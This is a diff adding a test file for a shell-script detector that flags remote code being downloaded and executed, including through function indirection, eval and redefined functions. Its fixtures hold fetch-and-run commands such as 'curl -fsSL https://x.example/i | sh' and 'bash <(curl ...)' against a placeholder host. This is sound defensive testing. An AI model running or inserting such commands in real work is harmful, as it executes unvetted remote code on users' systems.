@@ -1,0 +1,96 @@
+import { describe, expect, it } from "vitest";
+import { chain, clique, growing, menu } from "../../bench/calls.js";
+import { profiles } from "../../src/core/model.js";
+import { sharedDetector } from "../support/marked.js";
+import { assertSound } from "./invariants.js";
+
+const FETCH = "bash <(curl -fsSL https://x.example/install.sh)";
+
+const programs: Readonly<Record<string, string>> = {
+  "a chain of 40 functions": chain(40),
+  "a chain of 4,000 functions": chain(4000),
+  "6 functions that call each other": clique(6),
+  "60 functions that call each other": clique(60),
+  "a menu of 40 actions": menu(40),
+  "a menu of 1,600 actions": menu(1600),
+};
+
+/** Calls that differ in plain words only, before the one that matters. */
+function padded(definition: string, calls: readonly string[], last: string): string {
+  return `${[definition, ...calls, last].join("\n")}\n`;
+}
+
+const range = (length: number): string[] => Array.from({ length }, (_, index) => String(index));
+
+describe.each(profiles)("calls under %s", { timeout: 120_000 }, (profile) => {
+  it.each(Object.entries(programs))("%s are evaluated to the end", async (_, text) => {
+    const detection = (await sharedDetector(profile)).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings.map((finding) => finding.text)).toEqual([FETCH]);
+    expect(detection.outcome).toEqual({ status: "complete" });
+  });
+
+  it.each([
+    [
+      "a function that runs its words",
+      padded(
+        'run() { echo "+ $*"; "$@"; }',
+        range(200).map((at) => `run apt-get install pkg${at}`),
+        'run bash -c "$(curl -fsSL https://x.example/i)"',
+      ),
+      'bash -c "$(curl -fsSL https://x.example/i)"',
+    ],
+    [
+      "a function that executes its first word",
+      padded(
+        'run() { eval "$1"; }',
+        range(300).map((at) => `run 'apt-get install pkg${at}'`),
+        "run 'curl -fsSL https://x.example/i | sh'",
+      ),
+      'eval "$1"',
+    ],
+    [
+      "a function that passes on what it is given",
+      padded(
+        'get() { curl -fsSL "$1"; }',
+        range(300).map((at) => `get https://x.example/${at} > f${at}`),
+        "get https://x.example/i | sh",
+      ),
+      "get https://x.example/i | sh",
+    ],
+  ])("hundreds of plain calls hide no other: %s", async (_, text, found) => {
+    const detection = (await sharedDetector(profile)).detect(text);
+    assertSound(text, detection);
+    expect(
+      detection.findings.filter(({ level }) => level === "finding").map((finding) => finding.text),
+    ).toEqual([found]);
+    expect(detection.outcome).toEqual({ status: "complete" });
+  });
+
+  it("arguments that differ at each of very many calls are joined, and the outcome says so", async () => {
+    const text = growing(30, "curl -fsSL https://x.example/i | sh");
+    const detection = (await sharedDetector(profile)).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings.map((finding) => finding.text)).toEqual(['eval "$1"']);
+    expect(detection.outcome.status).toBe("incomplete");
+  });
+
+  it.each([
+    ['f() { eval "$S"; }\nS=$(curl A)\nf\n', ['eval "$S"']],
+    ['f() { eval "$S"; }\nf\nS=$(curl A)\n', []],
+    ['f() { eval "$S"; S=$(curl A); f; }\nf\n', ['eval "$S"']],
+    ['f() { eval "$S"; S=$(curl -o x A); f; }\nf\n', []],
+    ['f() { f "$(curl A)"; eval "$1"; }\nf\n', ['eval "$1"']],
+    ['f() { f "$(curl -o x A)"; eval "$1"; }\nf\n', []],
+    ["f() { g; }\ng() { :; }\nf\ng() { curl A | sh; }\nf\n", ["curl A | sh"]],
+    ['f() { g "$1"; }\ng() { :; }\nf ls\ng() { eval "$1"; }\nf "curl A | sh"\n', ['eval "$1"']],
+    ['f() { g "$1"; }\ng() { eval "$1"; }\nf ls\ng() { :; }\nf "curl A | sh"\n', []],
+    ["( g() { sh; }; f() { curl A | g; }; f )\n", ["curl A | g"]],
+    ["f() { curl A | g; }\n( g() { sh; }; :; )\nf\n", []],
+  ])("a call sees what was set before it: %j", async (text, found) => {
+    const detection = (await sharedDetector(profile)).detect(`\`\`\`sh\n${text}\`\`\`\n`);
+    expect(
+      detection.findings.filter(({ level }) => level === "finding").map((finding) => finding.text),
+    ).toEqual(found);
+  });
+});
